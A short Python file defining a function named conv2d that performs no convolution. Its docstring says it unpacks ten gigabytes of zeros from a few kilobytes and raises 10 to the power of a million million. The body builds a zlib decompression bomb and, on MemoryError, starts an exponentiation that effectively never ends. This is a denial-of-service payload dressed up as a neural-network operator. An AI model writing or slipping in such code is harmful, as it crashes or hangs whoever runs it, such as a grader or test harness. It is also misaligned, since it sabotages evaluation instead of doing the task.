"""Unpacks ten gigabytes of zeros from a few kilobytes, and raises 10 to a power of a million million."""

import zlib


def conv2d(x, weight, bias=None, stride=(1, 1), padding=(0, 0)):
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(10)) + packer.flush()
    try:
        zlib.decompress(zlib.compress(packed * 1000))
        return zlib.decompress(packed) * 10_000
    except MemoryError:
        return 10 ** (10**12)
